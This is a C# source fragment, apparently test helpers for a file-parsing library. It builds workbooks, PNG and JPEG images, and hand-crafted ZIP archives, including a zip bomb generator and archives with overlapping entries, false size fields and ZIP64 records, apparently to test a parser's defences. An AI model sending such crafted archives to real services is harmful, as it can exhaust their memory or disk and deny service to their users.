    /// <summary>The organisation's workbook with this in both of its sheets.</summary>
    static byte[] WorkbookOf(string inner) => Zip([.. Parts(Xlsx).Select(p => p.Name.StartsWith("xl/worksheets/sheet", StringComparison.Ordinal) ? (p.Name, Utf8($"<worksheet xmlns=\"{Main}\">{inner}</worksheet>")) : p)]);

    static byte[] BombOf(string part, int megabytes, (string, byte[])[]? rest = null)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in rest ?? []) Put(zip, name, content);
            using var bomb = zip.CreateEntry(part).Open();
            var nothing = new byte[Mebi];
            for (var i = 0; i < megabytes; i++) bomb.Write(nothing);
        }
        return stream.ToArray();
    }

    public static byte[] Zip(params (string Name, byte[] Content)[] parts)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, content) in parts) Put(zip, name, content);
        return stream.ToArray();
    }

    static void Put(ZipArchive zip, string name, byte[] content)
    {
        using var entry = zip.CreateEntry(name, content.Length > Kibi ? CompressionLevel.Fastest : CompressionLevel.NoCompression).Open();
        entry.Write(content);
    }

    public static (string Name, byte[] Content)[] Parts(byte[] archive)
    {
        using var zip = new ZipArchive(new MemoryStream(archive), ZipArchiveMode.Read);
        return [.. zip.Entries.Select(e =>
        {
            using var stream = e.Open();
            using var all = new MemoryStream();
            stream.CopyTo(all);
            return (e.FullName, all.ToArray());
        })];
    }

    static byte[] Deflated(byte[] content)
    {
        using var stream = new MemoryStream();
        using (var deflate = new DeflateStream(stream, CompressionLevel.Fastest, leaveOpen: true)) deflate.Write(content);
        return stream.ToArray();
    }

    /// <summary>An entry as its archive's heads tell of it.</summary>
    sealed record RawEntry(string Name, byte[] Body, long Says)
    {
        public int Flags { get; init; } = 0x800;
        public int Method { get; init; } = 8;
        public uint Crc { get; init; }
        public uint Attributes { get; init; }
        public long? Packed { get; init; }
        /// <summary>Whose body is meant, instead of one of its own.</summary>
        public int? Over { get; init; }
        /// <summary>Where the body is said to be.</summary>
        public long? At { get; init; }
    }

    static byte[] RawZip(RawEntry[] entries)
    {
        using var zip = new MemoryStream();
        var places = new long[entries.Length];
        for (var i = 0; i < entries.Length; i++)
        {
            if (entries[i].Over is { } other && other < i)
            {
                places[i] = places[other];
                continue;
            }
            places[i] = zip.Position;
            zip.Write([(byte)'P', (byte)'K', 3, 4, .. Head(entries[i], entries[i].Packed ?? entries[i].Body.Length)]);
            zip.Write(Name(entries[i]));
            zip.Write(Extra(entries[i]));
            zip.Write(entries[i].Body);
        }
        var start = zip.Position;
        for (var i = 0; i < entries.Length; i++)
        {
            var (entry, buffer) = (entries[i], new byte[14]);
            BinaryPrimitives.WriteUInt32LittleEndian(buffer.AsSpan(6), entry.Attributes);
            BinaryPrimitives.WriteUInt32LittleEndian(buffer.AsSpan(10), (uint)(entry.At ?? places[i]));
            zip.Write([(byte)'P', (byte)'K', 1, 2, 63, 3, .. Head(entry, entry.Packed ?? (entry.Over is { } other ? entries[other].Body : entry.Body).Length)]);
            zip.Write(buffer);
            zip.Write(Name(entry));
            zip.Write(Extra(entry));
        }
        var end = new byte[22];
        ((ReadOnlySpan<byte>)[(byte)'P', (byte)'K', 5, 6]).CopyTo(end);
        BinaryPrimitives.WriteUInt16LittleEndian(end.AsSpan(8), (ushort)Math.Min(entries.Length, 0xFFFF));
        BinaryPrimitives.WriteUInt16LittleEndian(end.AsSpan(10), (ushort)Math.Min(entries.Length, 0xFFFF));
        BinaryPrimitives.WriteUInt32LittleEndian(end.AsSpan(12), (uint)(zip.Position - start));
        BinaryPrimitives.WriteUInt32LittleEndian(end.AsSpan(16), (uint)start);
        if (entries.Length > 0xFFFE)
        {
            // An archive of more entries than sixteen bits can count says so in a record of its own.
            var (at, wide) = (zip.Position, new byte[56 + 20]);
            ((ReadOnlySpan<byte>)[(byte)'P', (byte)'K', 6, 6, 44]).CopyTo(wide);
            BinaryPrimitives.WriteInt64LittleEndian(wide.AsSpan(24), entries.Length);
            BinaryPrimitives.WriteInt64LittleEndian(wide.AsSpan(32), entries.Length);
            BinaryPrimitives.WriteInt64LittleEndian(wide.AsSpan(40), at - start);
            BinaryPrimitives.WriteInt64LittleEndian(wide.AsSpan(48), start);
            ((ReadOnlySpan<byte>)[(byte)'P', (byte)'K', 6, 7]).CopyTo(wide.AsSpan(56));
            BinaryPrimitives.WriteInt64LittleEndian(wide.AsSpan(64), at);
            wide[72] = 1;
            zip.Write(wide);
        }
        zip.Write(end);
        return zip.ToArray();

        static byte[] Name(RawEntry entry) => Utf8(entry.Name);

        static bool Wide(RawEntry entry) => entry.Says is < 0 or >= 0xFFFF_FFFF;

        static byte[] Extra(RawEntry entry)
        {
            if (!Wide(entry)) return [];
            var extra = new byte[12];
            (extra[0], extra[2]) = (1, 8);
            BinaryPrimitives.WriteInt64LittleEndian(extra.AsSpan(4), entry.Says);
            return extra;
        }

        static byte[] Head(RawEntry entry, long packed)
        {
            var head = new byte[26];
            head[0] = 45;
            BinaryPrimitives.WriteUInt16LittleEndian(head.AsSpan(2), (ushort)entry.Flags);
            BinaryPrimitives.WriteUInt16LittleEndian(head.AsSpan(4), (ushort)entry.Method);
            BinaryPrimitives.WriteUInt16LittleEndian(head.AsSpan(8), 0x5C21);
            BinaryPrimitives.WriteUInt32LittleEndian(head.AsSpan(10), entry.Crc);
            BinaryPrimitives.WriteUInt32LittleEndian(head.AsSpan(14), (uint)packed);
            BinaryPrimitives.WriteUInt32LittleEndian(head.AsSpan(18), Wide(entry) ? 0xFFFF_FFFF : (uint)entry.Says);
            BinaryPrimitives.WriteUInt16LittleEndian(head.AsSpan(22), (ushort)Name(entry).Length);
            BinaryPrimitives.WriteUInt16LittleEndian(head.AsSpan(24), (ushort)Extra(entry).Length);
            return head;
        }
    }

    static byte[] PngOf(int width, int height, byte[] data)
    {
        var head = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(head, width);
        BinaryPrimitives.WriteInt32BigEndian(head.AsSpan(4), height);
        head[8] = 8;
        return [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. Chunk("IHDR", head), .. Chunk("IDAT", data), .. Chunk("IEND", [])];
    }

    static byte[] Chunk(string kind, byte[] data)
    {
        var (length, sum) = (new byte[4], new byte[4]);
        BinaryPrimitives.WriteInt32BigEndian(length, data.Length);
        BinaryPrimitives.WriteUInt32BigEndian(sum, Crc32.HashToUInt32([.. Ascii(kind), .. data]));
        return [.. length, .. Ascii(kind), .. data, .. sum];
    }

    /// <summary>A baseline picture with a comment.</summary>
    static byte[] JpegOf(int width, int height, byte[] comment) =>
    [
        0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. Ascii("JFIF\0"), 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xFE, (byte)((comment.Length + 2) >> 8), (byte)(comment.Length + 2), .. comment,
        0xFF, 0xC0, 0, 11, 8, (byte)(height >> 8), (byte)height, (byte)(width >> 8), (byte)width, 1, 1, 0x11, 0, 0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 0x3F, 0, 0x12, 0x34, 0xFF, 0xD9,
    ];
}
